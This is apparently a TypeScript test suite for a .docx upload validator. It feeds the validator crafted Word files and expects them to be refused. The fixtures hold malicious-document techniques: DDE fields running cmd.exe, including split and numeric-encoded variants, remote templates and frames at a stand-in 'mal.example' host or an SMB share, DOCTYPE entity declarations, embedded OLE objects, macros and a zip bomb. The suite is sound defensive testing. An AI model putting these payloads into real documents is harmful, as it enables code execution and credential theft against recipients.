import { deflateRawSync } from 'node:zlib';
import { wordText } from '@girassol/shared-domain/templates';
import { checkDocx } from './check-docx';
import { readZip } from './read-zip';

const sound = Buffer.from(wordText('{cliente_nome}'));

interface Entry {
  name: string;
  content: Buffer;
  /** What its directory claims. */
  saysSize?: number;
  flags?: number;
}

/** A zip of deflated entries. */
function zipOf(...entries: Entry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let at = 0;
  for (const { name, content, saysSize = content.length, flags = 0 } of entries) {
    const packed = deflateRawSync(content);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(flags, 2);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(saysSize, 18);
    facts.writeUInt16LE(name.length, 22);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), facts, Buffer.from(name), packed]);
    locals.push(local);
    centrals.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), facts, tail, Buffer.from(name)]));
    at += local.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, central, end]);
}

/** A Word document with these parts beside, or in place of, its own. */
function docxWith(parts: Record<string, string | Buffer>): Buffer {
  const content = readZip(sound, { entries: 100, bytes: 10_000_000 });
  for (const [name, part] of Object.entries(parts)) content.set(name, Buffer.from(part));
  return zipOf(...Array.from(content, ([name, part]) => ({ name, content: part })));
}

const paragraph = (inner: string) =>
  `<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p>${inner}</w:p></w:body></w:document>`;
const relation = (type: string, target: string) =>
  `<Relationships xmlns="r"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

test.each<[string, Record<string, string | Buffer>, RegExp]>([
  [
    'a DOCTYPE in small letters',
    { 'word/document.xml': `<!doctype x>${paragraph('')}` },
    /não é um documento/,
  ],
  [
    'a DOCTYPE in another part',
    { 'word/header1.xml': '<!DocType x [<!ENTITY a "b">]><w:hdr/>' },
    /não é um documento/,
  ],
  [
    'a DOCTYPE in UTF-16',
    { 'word/x.bin': Buffer.from('\ufeff<!DOCTYPE x><a/>', 'utf16le') },
    /não é um documento/,
  ],
  [
    'a remote template',
    { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://mal.example/t.dotm') },
    /outro endereço/,
  ],
  [
    'a template on a share',
    { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///\\\\10.0.0.1\\t.dotm') },
    /outro endereço/,
  ],
  [
    'a remote frame',
    { 'word/_rels/webSettings.xml.rels': relation('frame', 'http://mal.example') },
    /outro endereço/,
  ],
  ['an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }, /objeto incorporado/],
  ['a linked object', { 'word/document.xml': paragraph('<o:OLEObject Type="Link"/>') }, /objeto incorporado/],
  [
    'DDE in one piece',
    { 'word/document.xml': paragraph('<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe /k calc"/>') },
    /DDE/,
  ],
  [
    'DDE in pieces',
    {
      'word/footer1.xml': paragraph(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:r/><w:instrText>&#68;E c</w:instrText>',
      ),
    },
    /DDE/,
  ],
  ['DDE in numbers', { 'word/document.xml': paragraph('<w:instrText>QUOTE 68 68 69</w:instrText>') }, /DDE/],
])('%s is refused, and said', (_, parts, message) => {
  expect(() => checkDocx(docxWith(parts))).toThrow(message);
});

test('links, page numbers, linked pictures and a template of the own machine are fine', () => {
  const harmless = {
    'word/document.xml': paragraph(
      '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:t>DDE LINK</w:t><w:fldSimple w:instr="HYPERLINK &quot;http://a.b&quot;"/>',
    ),
    'word/_rels/document.xml.rels': relation('hyperlink', 'https://girassol.example'),
    'word/_rels/header1.xml.rels': relation('image', 'https://girassol.example/logo.png'),
    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///C:\\Modelos\\empresa.dotx'),
  };
  expect(() => checkDocx(docxWith(harmless))).not.toThrow();
});

test('[boards.aftersales-007] a Word document passes', () => {
  expect(() => checkDocx(sound)).not.toThrow();
});

test.each([
  ['an empty file', Buffer.alloc(0)],
  ['the beginning of a zip only', Buffer.from('PK\x03\x04 modelo')],
  ['a document that was cut', sound.subarray(0, sound.length - 60)],
  ['another kind of zip', zipOf({ name: 'leia-me.txt', content: Buffer.from('olá') })],
])('%s is no Word document', (_, content) => {
  expect(() => checkDocx(content)).toThrow('O arquivo não é um documento do Word (.docx).');
});

test('a zip bomb is refused by what it says of itself, and by what comes out of it', () => {
  const bomb = Buffer.alloc(80 * 1024 * 1024);
  expect(() => checkDocx(zipOf({ name: 'word/document.xml', content: bomb }))).toThrow('grande demais');
  expect(() => checkDocx(zipOf({ name: 'word/document.xml', content: bomb, saysSize: 10 }))).toThrow(
    'grande demais',
  );
});

test('macros and passwords are refused, and said', () => {
  const withMacros = Buffer.from(
    sound.toString('latin1').replaceAll('word/styles.xml', 'vbaProject.bins'),
    'latin1',
  );
  expect(() => checkDocx(withMacros)).toThrow('O documento tem macros.');
  expect(() => checkDocx(zipOf({ name: 'word/document.xml', content: Buffer.from('x'), flags: 1 }))).toThrow(
    'senha',
  );
});
